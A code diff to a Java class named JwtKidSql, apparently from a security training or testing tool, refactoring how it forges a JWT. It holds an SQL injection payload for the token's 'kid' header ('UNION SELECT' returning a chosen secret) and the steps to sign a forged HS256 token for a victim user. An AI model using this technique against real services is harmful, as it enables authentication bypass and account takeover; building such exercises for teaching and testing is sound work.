@@ -1,7 +1,6 @@
 package dev.gatehouse.desktop.attack;
 
 import com.google.auto.service.AutoService;
-import dev.gatehouse.desktop.credential.CompactToken;
 import dev.gatehouse.desktop.credential.CredentialException;
 import java.nio.charset.StandardCharsets;
 import java.util.List;
@@ -32,14 +31,11 @@ public final class JwtKidSql extends JwtAttack {
             "Write a kid that ends the text it is put into, and adds an answer of its own.",
             "kid",
             "' UNION SELECT '" + SECRET + "' --");
-    CompactToken forged =
-        ownToken(target)
-            .withHeader("alg", "HS256")
-            .withHeader("kid", kid)
-            .withClaim("sub", Loot.VICTIM);
     return target.makes(
         "Write alg HS256, that kid and sub alice, and sign with the secret that the database will answer with.",
         "forged token",
-        new SharedSecret(SECRET.getBytes(StandardCharsets.US_ASCII)).sign(forged).text());
+        new SharedSecret(SECRET.getBytes(StandardCharsets.US_ASCII))
+            .signAs(kid, ownToken(target).withClaim("sub", Loot.VICTIM))
+            .text());
   }
 }
